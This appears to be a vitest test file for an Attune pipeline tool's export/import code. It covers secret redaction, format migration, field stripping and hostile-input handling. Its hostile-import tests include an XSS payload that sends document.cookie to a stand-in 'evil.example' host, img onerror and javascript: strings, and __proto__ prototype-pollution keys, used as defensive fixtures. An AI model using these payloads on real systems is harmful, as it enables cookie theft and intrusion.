import { readFileSync } from "node:fs";
import { describe, expect, it } from "vitest";
import { z } from "zod";
import { defineNodeSpec } from "../define-node";
import type { PipelineDocument } from "../document";
import { NodeRegistry } from "../registry";
import { output, sentiment, textInput, threshold } from "../test-specs";
import { validate } from "../validate";
import { EXCHANGE_LIMITS, exchangeFileName, exportPipeline, importPipeline, modalitiesOf, secretParamNames, type ImportResult } from "./index";

/** A node with a param marked secret, the way a real node would declare one. */
const webhook = defineNodeSpec({
  type: "policy.webhook",
  version: 1,
  family: "policy",
  title: "Webhook",
  description: "Posts the action to a URL.",
  inputs: [{ id: "action", label: "Action", accepts: "action" }],
  outputs: [{ id: "sent", label: "Sent", type: "boolean" }],
  params: z.object({
    url: z.string().default("https://example.org/hook"),
    token: z.string().meta({ secret: true }).default(""),
    headers: z.record(z.string(), z.string()).default({}),
  }),
});

const registry = new NodeRegistry([textInput, output, sentiment, threshold, webhook]);

function fixture(name: string): string {
  return readFileSync(new URL(`./fixtures/${name}`, import.meta.url), "utf8");
}

/** The pipeline both fixtures describe, in the current document shape. */
function escalation(): PipelineDocument {
  return {
    schemaVersion: 1,
    nodes: [
      { id: "message", type: "core.input", version: 1, label: "Customer message", params: { name: "text" }, position: { x: 0, y: 100 } },
      { id: "sentiment", type: "nlp.sentiment", version: 1, params: { smoothing: 0.2 }, position: { x: 300, y: 100 } },
      { id: "negative", type: "policy.threshold", version: 2, params: { label: "negative", level: 0.7 }, position: { x: 600, y: 100 } },
      { id: "action", type: "core.output", version: 1, params: { name: "action" }, position: { x: 900, y: 100 } },
    ],
    edges: [
      { id: "e-text", from: { node: "message", port: "value" }, to: { node: "sentiment", port: "text" } },
      { id: "e-scores", from: { node: "sentiment", port: "scores" }, to: { node: "negative", port: "scores" } },
      { id: "e-action", from: { node: "negative", port: "action" }, to: { node: "action", port: "value" } },
    ],
    meta: { purpose: "Route clearly negative messages to a person first.", setting: "customer-service" },
  };
}

function withWebhook(token: string, header: string): PipelineDocument {
  const doc = escalation();
  doc.nodes.push({
    id: "notify",
    type: "policy.webhook",
    version: 1,
    params: { url: "https://example.org/hook", token, headers: { authorization: header, "x-team": "support" } },
    position: { x: 900, y: 300 },
  });
  doc.edges.push({ id: "e-notify", from: { node: "negative", port: "action" }, to: { node: "notify", port: "action" } });
  return doc;
}

function ok(result: ImportResult): Extract<ImportResult, { ok: true }> {
  if (!result.ok) throw new Error(`import failed: ${JSON.stringify(result.problems)}`);
  return result;
}

function problems(result: ImportResult) {
  expect(result.ok).toBe(false);
  return result.ok ? [] : result.problems;
}

describe("export then import", () => {
  it("gives an equal document, metadata and samples", () => {
    const document = escalation();
    const { file, placeholders } = exportPipeline({
      kind: "template",
      pipeline: { name: "Escalation", description: "Negative goes to a person.", tags: ["support", "text"] },
      document,
      samples: [{ name: "angry", inputs: { text: "This is awful!" } }],
      registry,
    });
    expect(placeholders).toEqual([]);
    expect(file.format).toBe("attune.template");
    const imported = ok(importPipeline(JSON.stringify(file), registry));
    expect(imported.document).toEqual(document);
    expect(imported.pipeline).toEqual({ name: "Escalation", description: "Negative goes to a person.", tags: ["support", "text"] });
    expect(imported.samples).toEqual([{ name: "angry", inputs: { text: "This is awful!" } }]);
    expect(imported.kind).toBe("template");
    expect(imported.sourceFormatVersion).toBe(3);
    expect(imported.warnings).toEqual([]);
    expect(imported.modalities).toEqual(["text"]);
  });

  it("does not modify the document it exports", () => {
    const document = withWebhook("s3cret-value", "Bearer abcdefghijklmnop");
    const before = structuredClone(document);
    exportPipeline({ pipeline: { name: "x" }, document, registry });
    expect(document).toEqual(before);
  });

  it("imports a bare document (a template's pipeline.json) under a fallback name", () => {
    const imported = ok(importPipeline(JSON.stringify(escalation()), registry, { fallbackName: "From JSON" }));
    expect(imported.document).toEqual(escalation());
    expect(imported.pipeline.name).toBe("From JSON");
    expect(imported.sourceFormatVersion).toBe("document");
  });

  it("names download files safely", () => {
    expect(exchangeFileName("Angry caller: v2!")).toBe("angry-caller-v2.attune.json");
    expect(exchangeFileName("../../etc", "template")).toBe("etc.attune-template.json");
    expect(exchangeFileName("")).toBe("pipeline.attune.json");
  });
});

describe("secrets", () => {
  const KEY = "atn_abcdefghij_0123456789abcdefghijklmnopqrstuvwxyzABCDEFG";
  const document = withWebhook("my-webhook-password", `Bearer ${KEY}`);
  document.nodes[0]!.params.name = "text";
  document.nodes[1]!.label = "Sentiment";

  it("finds params marked secret through zod metadata", () => {
    expect(secretParamNames(webhook)).toEqual(["token"]);
    expect(secretParamNames(threshold)).toEqual([]);
  });

  it("never writes a secret param, an API key or a bearer token into the file", () => {
    const { file, placeholders } = exportPipeline({
      pipeline: { name: "Has secrets", description: `call with ${KEY}` },
      document,
      samples: [{ name: "s", inputs: { text: `my key is ${KEY}` } }],
      registry,
    });
    const text = JSON.stringify(file);
    expect(text).not.toContain("my-webhook-password");
    expect(text).not.toContain(KEY);
    expect(text).not.toContain("0123456789abcdefghij");
    expect(placeholders.map((p) => p.path).sort()).toEqual(["document.nodes[4].params.headers.authorization", "document.nodes[4].params.token"]);
    const notify = file.document.nodes[4]!;
    expect(notify.params.token).toEqual({ $placeholder: expect.stringContaining("secret") });
    expect(notify.params.headers).toEqual({ authorization: { $placeholder: "Attune API key for notify (headers.authorization)" }, "x-team": "support" });
    // Everything else is untouched.
    expect(notify.params.url).toBe("https://example.org/hook");
    expect(file.placeholders).toEqual(placeholders);
  });

  it("an API key anywhere in params is caught even without a registry", () => {
    const doc = escalation();
    doc.nodes[2]!.params = { ...doc.nodes[2]!.params, label: KEY };
    const { file } = exportPipeline({ pipeline: { name: "x" }, document: doc });
    expect(JSON.stringify(file)).not.toContain(KEY);
  });

  it("the importer lists placeholders; the pipeline imports but cannot run until they are filled", () => {
    const { file } = exportPipeline({ pipeline: { name: "Has secrets" }, document, registry });
    const imported = ok(importPipeline(JSON.stringify(file), registry));
    expect(imported.placeholders.map((p) => [p.path, p.nodeId]).sort()).toEqual([
      ["document.nodes[4].params.headers.authorization", "notify"],
      ["document.nodes[4].params.token", "notify"],
    ]);
    // validate() points at the unfilled secret param, so neither preview nor endpoint runs it.
    const issues = validate(imported.document, registry);
    expect(issues.some((i) => i.code === "PARAM_INVALID" && i.nodeId === "notify" && i.paramPath === "token")).toBe(true);
  });

  it("filling every placeholder gives back the original document", () => {
    const { file, placeholders } = exportPipeline({ pipeline: { name: "Has secrets" }, document, registry });
    const fills = Object.fromEntries(
      placeholders.map((p) => [p.path, p.param === "token" ? "my-webhook-password" : `Bearer ${KEY}`]),
    );
    const imported = ok(importPipeline(JSON.stringify(file), registry, { fills }));
    expect(imported.placeholders).toEqual([]);
    expect(imported.document).toEqual(document);
  });

  it("a fill for a path that holds no placeholder is a problem", () => {
    const { file } = exportPipeline({ pipeline: { name: "Has secrets" }, document, registry });
    const found = problems(importPipeline(JSON.stringify(file), registry, { fills: { "document.nodes[0].params.name": "x" } }));
    expect(found).toEqual([expect.objectContaining({ code: "UNKNOWN_FILL", path: "document.nodes[0].params.name" })]);
  });
});

describe("older formats", () => {
  it("migrates the v1 fixture (bare graph before schemaVersion) to the current document", () => {
    const imported = ok(importPipeline(fixture("v1-sentiment-escalation.json"), registry));
    expect(imported.sourceFormatVersion).toBe(1);
    expect(imported.pipeline).toEqual({ name: "Sentiment escalation (exported before schemaVersion)", description: "", tags: [] });
    const expected = escalation();
    delete expected.meta;
    // v1 had no node versions: the threshold imports at v1 with its old params...
    expected.nodes[2] = { ...expected.nodes[2]!, version: 1, params: { label: "negative", min: 70 } };
    expected.edges[0]!.id = "e1-message-sentiment";
    expected.edges[2]!.id = "e3-negative-action";
    expect(imported.document).toEqual(expected);
    // ...which the node's own migrate upgrades, so it validates clean.
    expect(validate(imported.document, registry).filter((i) => i.severity === "error")).toEqual([]);
  });

  it("migrates the v2 fixture (first envelope) to the current format", () => {
    const imported = ok(importPipeline(fixture("v2-sentiment-escalation.json"), registry));
    expect(imported.sourceFormatVersion).toBe(2);
    expect(imported.pipeline).toEqual({ name: "Sentiment escalation (format v2)", description: "Escalates clearly negative messages.", tags: [] });
    const expected = escalation();
    delete expected.meta;
    expect(imported.document).toEqual(expected);
    expect(imported.warnings).toEqual([]);
  });

  it("reports problems in a v1 file at the paths that file has", () => {
    const v1 = JSON.parse(fixture("v1-sentiment-escalation.json")) as { nodes: { kind: string; config: Record<string, unknown> }[] };
    v1.nodes[1]!.kind = "nlp.does-not-exist";
    v1.nodes[3]!.config.name = "";
    const found = problems(importPipeline(JSON.stringify(v1), registry));
    expect(found.map((p) => [p.code, p.path])).toEqual(
      expect.arrayContaining([
        ["UNKNOWN_NODE_TYPE", "nodes[1].kind"],
        ["PARAM_INVALID", "nodes[3].config.name"],
      ]),
    );
  });

  it("refuses a file from a newer Attune instead of guessing", () => {
    const { file } = exportPipeline({ pipeline: { name: "x" }, document: escalation() });
    const found = problems(importPipeline(JSON.stringify({ ...file, formatVersion: 99 }), registry));
    expect(found).toEqual([expect.objectContaining({ code: "FORMAT_TOO_NEW", path: "formatVersion" })]);
  });
});

describe("unknown fields are stripped and reported", () => {
  it("at every level, including params a node does not declare", () => {
    const { file } = exportPipeline({ pipeline: { name: "x", tags: ["a"] }, document: escalation() });
    const raw = JSON.parse(JSON.stringify(file)) as Record<string, any>;
    raw.extra = 1;
    raw.pipeline.owner = "mallory";
    raw.document.unexpected = true;
    raw.document.nodes[1].color = "red";
    raw.document.nodes[1].position.z = 3;
    raw.document.nodes[1].params.evil = "drop me";
    raw.document.edges[0].weight = 2;
    const imported = ok(importPipeline(JSON.stringify(raw), registry));
    expect(imported.document).toEqual(escalation());
    expect(imported.warnings.filter((w) => w.code === "DROPPED_FIELD").map((w) => w.path).sort()).toEqual(
      [
        "document.edges[0].weight",
        "document.nodes[1].color",
        "document.nodes[1].params.evil",
        "document.nodes[1].position.z",
        "document.unexpected",
        "extra",
        "pipeline.owner",
      ].sort(),
    );
    expect(JSON.stringify(imported)).not.toContain("mallory");
  });
});

describe("hostile imports", () => {
  const good = () => JSON.parse(JSON.stringify(exportPipeline({ pipeline: { name: "x" }, document: escalation() }).file)) as Record<string, any>;

  it("wrong types are reported with their paths, not coerced", () => {
    const raw = good();
    raw.pipeline.name = 42;
    raw.document.nodes[0].position.x = "10";
    raw.document.nodes[2].version = -1;
    raw.document.edges = "none";
    const found = problems(importPipeline(raw, registry));
    expect(found.map((p) => p.path).sort()).toEqual(["document.edges", "document.nodes[0].position.x", "document.nodes[2].version", "pipeline.name"]);
    expect(found.every((p) => p.code === "SCHEMA")).toBe(true);
  });

  it("not an object, not JSON, or some other file", () => {
    expect(problems(importPipeline("{ nope", registry))[0]!.code).toBe("INVALID_JSON");
    expect(problems(importPipeline("[1,2]", registry))[0]!.code).toBe("UNKNOWN_FORMAT");
    expect(problems(importPipeline(JSON.stringify({ hello: "world" }), registry))[0]!.code).toBe("UNKNOWN_FORMAT");
    expect(problems(importPipeline(JSON.stringify({ format: "evil.format" }), registry))[0]).toMatchObject({ code: "UNKNOWN_FORMAT", path: "format" });
  });

  it("refuses huge files, too many nodes, huge strings and deep nesting (without overflowing the stack)", () => {
    expect(problems(importPipeline(" ".repeat(EXCHANGE_LIMITS.maxChars + 1), registry))[0]!.code).toBe("TOO_LARGE");

    const many = good();
    many.document.nodes = Array.from({ length: EXCHANGE_LIMITS.maxNodes + 1 }, (_, i) => ({ ...many.document.nodes[0], id: `n${i}` }));
    many.document.edges = [];
    expect(problems(importPipeline(many, registry))).toEqual(expect.arrayContaining([expect.objectContaining({ path: "document.nodes", code: "SCHEMA" })]));

    const longString = good();
    longString.document.nodes[0].label = "x".repeat(EXCHANGE_LIMITS.maxStringChars + 1);
    expect(problems(importPipeline(longString, registry))).toEqual([expect.objectContaining({ code: "TOO_LARGE", path: "document.nodes[0].label" })]);

    let deep: unknown = "bottom";
    for (let i = 0; i < 100_000; i++) deep = { d: deep };
    const nested = good();
    nested.document.nodes[0].params.deep = deep;
    const found = problems(importPipeline(nested, registry));
    expect(found).toEqual([expect.objectContaining({ code: "TOO_DEEP" })]);
    expect(found[0]!.path.startsWith("document.nodes[0].params.deep.d.d")).toBe(true);

    const wide = good();
    wide.document.nodes[0].params.wide = Array.from({ length: EXCHANGE_LIMITS.maxValues + 1 }, () => 0);
    expect(problems(importPipeline(wide, registry))[0]!.code).toBe("TOO_LARGE");
  });

  it("rejects __proto__, constructor and prototype keys anywhere, and Object.prototype stays clean", () => {
    const before = Object.getOwnPropertyNames(Object.prototype).sort();
    const text = JSON.stringify(good())
      .replace('"pipeline":{', '"pipeline":{"__proto__":{"polluted":"yes"},')
      .replace('"params":{"name":"text"}', '"params":{"name":"text","constructor":{"prototype":{"polluted":"yes"}},"nested":[{"__proto__":{"isAdmin":true}}]}');
    expect(text).toContain("__proto__");
    const found = problems(importPipeline(text, registry));
    expect(found.map((p) => [p.code, p.path])).toEqual([
      ["FORBIDDEN_KEY", "pipeline.__proto__"],
      ["FORBIDDEN_KEY", "document.nodes[0].params.constructor"],
      ["FORBIDDEN_KEY", "document.nodes[0].params.nested[0].__proto__"],
    ]);
    // Also when the caller parsed the JSON itself (JSON.parse keeps __proto__ as an own key).
    expect(problems(importPipeline(JSON.parse(text), registry)).length).toBe(3);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(({} as Record<string, unknown>).isAdmin).toBeUndefined();
    expect(Object.getOwnPropertyNames(Object.prototype).sort()).toEqual(before);
  });

  it("keeps scripts in strings as inert text and warns about them", () => {
    const raw = good();
    const script = `<script>fetch("https://evil.example/"+document.cookie)</script>`;
    raw.pipeline.name = `<img src=x onerror=alert(1)>`;
    raw.pipeline.description = script;
    raw.document.nodes[0].label = "javascript:alert(1)";
    const imported = ok(importPipeline(raw, registry));
    // Data is kept byte for byte (the UI renders it as text), never executed, never "cleaned" into something else.
    expect(imported.pipeline.name).toBe(`<img src=x onerror=alert(1)>`);
    expect(imported.pipeline.description).toBe(script);
    expect(imported.warnings.filter((w) => w.code === "MARKUP_IN_TEXT").map((w) => w.path).sort()).toEqual(
      ["document.nodes[0].label", "pipeline.description", "pipeline.name"].sort(),
    );
  });

  it("an integrity problem (unknown node, dangling edge) refuses the import with every path", () => {
    const raw = good();
    raw.document.nodes[1].type = "nlp.nope";
    raw.document.edges[2].to.node = "ghost";
    const found = problems(importPipeline(raw, registry));
    expect(found.map((p) => [p.code, p.path])).toEqual(
      expect.arrayContaining([
        ["UNKNOWN_NODE_TYPE", "document.nodes[1].type"],
        ["DANGLING_EDGE", "document.edges[2]"],
      ]),
    );
  });

  it("an unfinished pipeline (nothing wired yet) imports, with warnings", () => {
    const doc: PipelineDocument = { schemaVersion: 1, nodes: [escalation().nodes[1]!], edges: [] };
    const imported = ok(importPipeline(exportPipeline({ pipeline: { name: "draft" }, document: doc }).file, registry));
    expect(imported.warnings.some((w) => w.code === "VALIDATION")).toBe(true);
  });
});

describe("modalities", () => {
  it("derives text, face and voice from node types", () => {
    const node = (type: string) => ({ id: type.replace(".", "-"), type, version: 1, params: {}, position: { x: 0, y: 0 } });
    expect(modalitiesOf({ nodes: [node("core.text-input"), node("nlp.sentiment")] })).toEqual(["text"]);
    expect(modalitiesOf({ nodes: [node("vision.facial-expression"), node("core.audio-input"), node("fusion.late-fusion")] })).toEqual(["face", "voice"]);
    expect(modalitiesOf({ nodes: [node("core.number-input")] })).toEqual([]);
  });
});
